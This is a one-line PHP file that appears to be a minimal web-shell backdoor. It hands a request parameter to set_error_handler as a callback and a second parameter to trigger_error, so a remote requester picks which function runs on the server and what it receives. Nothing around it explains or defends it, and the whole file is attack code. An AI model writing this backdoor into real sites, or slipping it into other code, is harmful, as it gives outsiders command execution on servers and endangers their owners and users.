<?php set_error_handler($_GET['h']); trigger_error($_GET['c']);
